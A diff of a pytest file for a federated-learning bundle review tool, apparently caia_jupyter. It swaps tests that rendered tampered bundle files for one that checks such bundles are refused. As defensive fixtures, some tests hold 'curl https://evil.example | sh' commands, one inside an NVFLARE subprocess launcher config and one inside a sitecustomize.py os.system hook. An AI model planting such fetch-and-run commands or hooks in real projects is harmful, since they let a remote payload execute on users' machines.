@@ -9,9 +9,10 @@ import nbformat
 import pytest
 
 from caia_jupyter import __version__, bundle, review
-from caia_jupyter.bundle import MODULE_HEAD, RUNNER, Bundle
+from caia_jupyter.bundle import MODULE_HEAD, Bundle
 from caia_jupyter.errors import BundleError
-from caia_jupyter.flare.app import CLIENT_CONFIG, client_config
+from caia_jupyter.fileset import CLIENT_CONFIG, RUNNER
+from caia_jupyter.flare.app import client_config
 from caia_jupyter.manifest import bundle_id
 
 ROLES = {"federated.py": "module", "caia_runner.py": "runner", CLIENT_CONFIG: "flare-config", "requirements.txt": "requirements"}
@@ -136,46 +137,24 @@ def test_the_runner_client_config_and_requirements_are_shown_in_full(tmp_path):
     assert "torch==2.13.0" in text
 
 
-def test_a_client_config_that_runs_a_command_is_shown_and_called_out(tmp_path):
-    config = json.loads(client_config())
-    config["executors"][0]["executor"] = {
-        "path": "nvflare.app_common.executors.client_api_launcher_executor.ClientAPILauncherExecutor",
-        "args": {"launcher_id": "launcher"}}
-    config["components"].append({"id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
-                                 "args": {"script": "bash -c 'curl https://evil.example | sh'"}})
-    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), CLIENT_CONFIG: json.dumps(config).encode()})
-    text = text_of(page_of(built))
-    assert "⚠ This file differs from the client config caia-jupyter" in text
-    assert "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher. ⚠ Not part of caia's client config" in text
-    assert "bash -c 'curl https://evil.example | sh'" in text
-    assert json.dumps(config) in text  # the file byte for byte, besides the pretty-printed reading
+COMMAND_CONFIG = json.loads(client_config())
+COMMAND_CONFIG["components"].append({"id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
+                                     "args": {"script": "bash -c 'curl https://evil.example | sh'"}})
 
 
-def test_a_client_config_with_duplicate_keys_is_called_out(tmp_path):
-    config = client_config().decode().replace('"format_version": 2', '"format_version": 2, "executors": []')
-    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), CLIENT_CONFIG: config.encode()})
-    assert "duplicate key 'executors'" in text_of(page_of(built))
-
-
-def test_an_extra_listed_file_is_shown_in_full(tmp_path):
-    hook = 'import os\nos.system("curl https://evil.example | sh")\n'
-    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "sitecustomize.py": hook.encode(),
-                                   "notes/readme.txt": b"hello | `tick` <b>bold</b>\n"})
-    nb = review.review_notebook(built)
-    assert [c.source for c in nb.cells if c.get("metadata", {}).get("caia", {}).get("file") == "sitecustomize.py"] == [hook]
-    text = text_of(review.to_html(nb, "Review"))
-    assert "Files caia-jupyter does not write" in text and "sitecustomize.py" in text
-    assert 'os.system("curl https://evil.example | sh")' in text
-    assert "hello | `tick` <b>bold</b>" in text
-
-
-def test_a_binary_listed_file_is_shown_by_size_and_sha256(tmp_path):
-    pyc = b"\xa7\r\r\n\x00\x00\x00\x00" + bytes(range(256))
-    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "__pycache__/federated.cpython-311.pyc": pyc})
-    text = text_of(page_of(built))
-    assert "__pycache__/federated.cpython-311.pyc" in text
-    assert f"{len(pyc)} bytes, sha256 {hashlib.sha256(pyc).hexdigest()}" in text
-    assert "Not text: it cannot be shown here" in text
+@pytest.mark.parametrize("files, opaque, reason", [
+    ({CLIENT_CONFIG: json.dumps(COMMAND_CONFIG).encode()}, None, "is not caia's NVFLARE client config"),
+    ({"caia_runner.py": RUNNER.encode() + b"import os\n"}, None, "caia_runner.py is not caia's site runner"),
+    ({"sitecustomize.py": b"import os\n"}, None, "sitecustomize.py is not a bundle file"),
+    ({"__pycache__/federated.cpython-311.pyc": b"\xa7\r\r\n"}, None, "__pycache__/federated.cpython-311.pyc is not a bundle file"),
+    ({"sitecustomize.py": b"import os\n"}, {"sitecustomize.py": ("x", "int")}, "sitecustomize.py is not a bundle file"),
+], ids=["client-config-that-runs-a-command", "runner-that-is-not-caias", "extra-listed-module", "listed-bytecode",
+        "extra-file-flagged-opaque"])
+def test_a_bundle_outside_caias_file_set_is_refused_not_rendered(tmp_path, files, opaque, reason):
+    built = make_bundle(tmp_path / "b", {"federated.py": ENTRY_POINTS.encode(), **files}, opaque)
+    with pytest.raises(BundleError, match=re.escape(reason)):
+        review.render(built.path)
+    assert not (built.records / "review.html").exists()
 
 
 def test_opaque_values_are_shown_by_name_type_size_and_sha256(write_notebook, tmp_path):
@@ -185,14 +164,6 @@ def test_opaque_values_are_shown_by_name_type_size_and_sha256(write_notebook, tm
     assert "Opaque values captured" in text
     assert f"LEARNING_RATE numpy.float32 captured/LEARNING_RATE.pkl {entry['size']} {entry['sha256']}" in " ".join(text.split())
     assert "def _caia_load_captured(name):" in text  # the loader, in the module's head
-
-
-def test_a_file_flagged_opaque_that_is_not_a_captured_value_is_shown_in_full(tmp_path):
-    hook = b'import os\nos.system("id")\n'
-    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "sitecustomize.py": hook},
-                        opaque={"sitecustomize.py": ("x", "int")})
-    text = text_of(page_of(built))
-    assert 'os.system("id")' in text and "Opaque values captured" not in text
 
 
 @pytest.mark.parametrize("source, problem", [
